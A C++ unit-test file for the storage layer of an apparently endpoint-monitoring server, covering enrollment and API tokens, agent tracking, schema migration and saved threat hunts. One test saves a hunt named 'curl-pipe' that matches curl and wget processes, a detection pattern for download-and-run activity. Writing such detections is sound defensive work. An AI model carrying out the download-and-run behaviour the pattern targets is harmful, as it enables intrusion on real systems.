TEST_F(StoreTest, EnrollmentTokensAreSingleUseAndExpire) {
  auto store = Open();
  auto token = store->CreateEnrollmentToken(3600LL * 1000000000LL);
  ASSERT_TRUE(token);
  EXPECT_EQ(token->size(), 64u);
  // Only the hash is stored.
  EXPECT_TRUE(Sql("SELECT sha256 FROM enrollment_tokens WHERE sha256 = '" + *token + "'").empty());
  EXPECT_TRUE(store->ConsumeEnrollmentToken(*token));
  auto again = store->ConsumeEnrollmentToken(*token);
  ASSERT_FALSE(again);
  EXPECT_EQ(again.error().message, "enrollment token already used");
  auto unknown = store->ConsumeEnrollmentToken("deadbeef");
  ASSERT_FALSE(unknown);
  EXPECT_EQ(unknown.error().message, "unknown enrollment token");
  auto expired = store->CreateEnrollmentToken(-1);
  ASSERT_TRUE(expired);
  auto late = store->ConsumeEnrollmentToken(*expired);
  ASSERT_FALSE(late);
  EXPECT_EQ(late.error().message, "enrollment token expired");
}

TEST_F(StoreTest, ConcurrentConsumersOfOneTokenHaveOneWinner) {
  auto store = Open();
  auto token = store->CreateEnrollmentToken(3600LL * 1000000000LL);
  ASSERT_TRUE(token);
  std::atomic<int> wins{0};
  std::vector<std::thread> threads;
  for (int i = 0; i < 8; ++i)
    threads.emplace_back([&] {
      if (store->ConsumeEnrollmentToken(*token)) ++wins;
    });
  for (auto& t : threads) t.join();
  EXPECT_EQ(wins.load(), 1);
}

TEST_F(StoreTest, ApiTokensCarryTheirRole) {
  auto store = Open();
  for (Role role : {Role::Viewer, Role::Analyst, Role::Admin}) {
    auto secret = store->CreateApiToken("ci", role);
    ASSERT_TRUE(secret);
    auto verified = store->VerifyApiToken(*secret);
    ASSERT_TRUE(verified);
    EXPECT_EQ(*verified, role);
  }
  auto bad = store->VerifyApiToken("nope");
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().message, "unknown API token");
  EXPECT_EQ(RoleName(Role::Analyst), "analyst");
  EXPECT_EQ(ParseRole("admin"), Role::Admin);
  EXPECT_EQ(ParseRole("root"), std::nullopt);
}

TEST_F(StoreTest, AgentsTrackHelloStatusAndCounters) {
  auto store = Open();
  EXPECT_FALSE(*store->AgentExists("a1"));
  ASSERT_TRUE(store->RegisterAgent("a1", "alpha"));
  EXPECT_TRUE(*store->AgentExists("a1"));
  HostRecord hello;
  hello.host_id = "hid-1";
  hello.hostname = "alpha.example";
  hello.os = "Debian 12";
  hello.agent_version = "0.1.0";
  hello.sensor_kind = "ebpf";
  ASSERT_TRUE(store->UpdateAgentHello("a1", hello));
  EXPECT_FALSE(store->UpdateAgentHello("ghost", hello));
  ASSERT_TRUE(store->UpdateAgentStatus("a1", AgentStatusUpdate{5, 7, 0, 0, ""}));
  ASSERT_TRUE(store->CountRejectedBatch("a1", 11));
  v1::Event bad;
  bad.set_timestamp(1);
  auto events = Simple(4, 10);
  events.push_back(bad);
  ASSERT_TRUE(store->Append(std::vector{Batch("a1", 1, 1, events)}));
  auto hosts = store->ListHosts();
  ASSERT_TRUE(hosts);
  ASSERT_EQ(hosts->size(), 1u);
  const HostRecord& h = (*hosts)[0];
  EXPECT_EQ(h.agent_id, "a1");
  EXPECT_EQ(h.host_id, "hid-1");
  EXPECT_EQ(h.hostname, "alpha.example");
  EXPECT_EQ(h.os, "Debian 12");
  EXPECT_EQ(h.agent_version, "0.1.0");
  EXPECT_EQ(h.sensor_kind, "ebpf");
  EXPECT_GT(h.enrolled_ns, 0);
  EXPECT_GE(h.last_seen_ns, h.enrolled_ns);
  EXPECT_EQ(h.events_received, 4u);
  EXPECT_EQ(h.events_dropped, 5u + 7u + 11u + 1u);
  EXPECT_EQ(h.batches_rejected, 1u);
}

TEST_F(StoreTest, OlderSchemaIsMigratedByAddingColumns) {
  {
    auto store = Open();
    ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, {ProcessEvent(1, "h", "ls -la")})}));
  }
  // Make it look like a version-0 database from before process.exit_code and dns.answers.
  Sql("ALTER TABLE process DROP COLUMN process_exit_code");
  Sql("ALTER TABLE dns DROP COLUMN dns_answers");
  Sql("PRAGMA user_version = 0");
  EXPECT_TRUE(Sql("SELECT name FROM pragma_table_info('process') WHERE name = 'process_exit_code'")
                  .empty());
  auto store = Open();
  ASSERT_TRUE(store);
  EXPECT_EQ(Sql("PRAGMA user_version"),
            std::vector<std::string>{std::to_string(schema::kSchemaVersion)});
  EXPECT_EQ(
      Sql("SELECT count(*) FROM pragma_table_info('process') WHERE name = 'process_exit_code'"),
      std::vector<std::string>{"1"});
  EXPECT_EQ(Sql("SELECT count(*) FROM pragma_table_info('dns') WHERE name = 'dns_answers'"),
            std::vector<std::string>{"1"});
  auto got = Query(*store, EventQuery{});
  ASSERT_EQ(got.size(), 1u);
  EXPECT_EQ(got[0].process_command_line(), "ls -la");
  EXPECT_FALSE(got[0].has_process_exit_code());
  ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, {ProcessEvent(2, "h", "id")})}));
  EXPECT_EQ(Query(*store, Q(1))[0].process_exit_code(), -1);
}

TEST_F(StoreTest, NewerSchemaIsRefused) {
  { Open(); }
  Sql("PRAGMA user_version = " + std::to_string(schema::kSchemaVersion + 1));
  auto store = OpenSqliteStore(SqliteOptions{path_, true});
  ASSERT_FALSE(store);
  EXPECT_NE(
      store.error().message.find("schema version " + std::to_string(schema::kSchemaVersion + 1) +
                                 " is newer than this server's"),
      std::string::npos)
      << store.error().message;
  EXPECT_NE(store.error().message.find(path_.string()), std::string::npos);
}

TEST_F(StoreTest, SavedHuntsAreKeptByNameAndReplacedOnSave) {
  auto store = Open();
  auto secret = store->CreateApiToken("alice", Role::Analyst);
  ASSERT_TRUE(secret);
  auto who = store->AuthenticateApiToken(*secret);
  ASSERT_TRUE(who);
  EXPECT_EQ(who->name, "alice");
  EXPECT_EQ(who->role, Role::Analyst);

  ASSERT_TRUE(store->SaveHunt({.name = "curl-pipe",
                               .query = "process where name == \"curl\"",
                               .description = "downloads",
                               .owner = "alice"}));
  ASSERT_TRUE(store->SaveHunt(
      {.name = "a-first", .query = "any where true", .description = "", .owner = "bob"}));
  auto all = store->ListHunts();
  ASSERT_TRUE(all);
  ASSERT_EQ(all->size(), 2u);
  EXPECT_EQ((*all)[0].name, "a-first");  // by name
  EXPECT_EQ((*all)[1].owner, "alice");
  EXPECT_GT((*all)[1].created_ns, 0);

  ASSERT_TRUE(store->SaveHunt({.name = "curl-pipe",
                               .query = "process where name == \"wget\"",
                               .description = "v2",
                               .owner = "bob"}));
  auto one = store->GetHunt("curl-pipe");
  ASSERT_TRUE(one && *one);
  EXPECT_EQ((*one)->query, "process where name == \"wget\"");
  EXPECT_EQ((*one)->description, "v2");
  EXPECT_EQ((*one)->owner, "bob");
  EXPECT_EQ(store->ListHunts()->size(), 2u);

  EXPECT_TRUE(*store->DeleteHunt("curl-pipe"));
  EXPECT_FALSE(*store->DeleteHunt("curl-pipe"));
  EXPECT_FALSE(store->GetHunt("curl-pipe")->has_value());
  EXPECT_FALSE(store->SaveHunt({.name = "", .query = "x", .description = "", .owner = ""}));
}

}  // namespace
}  // namespace vigil::store
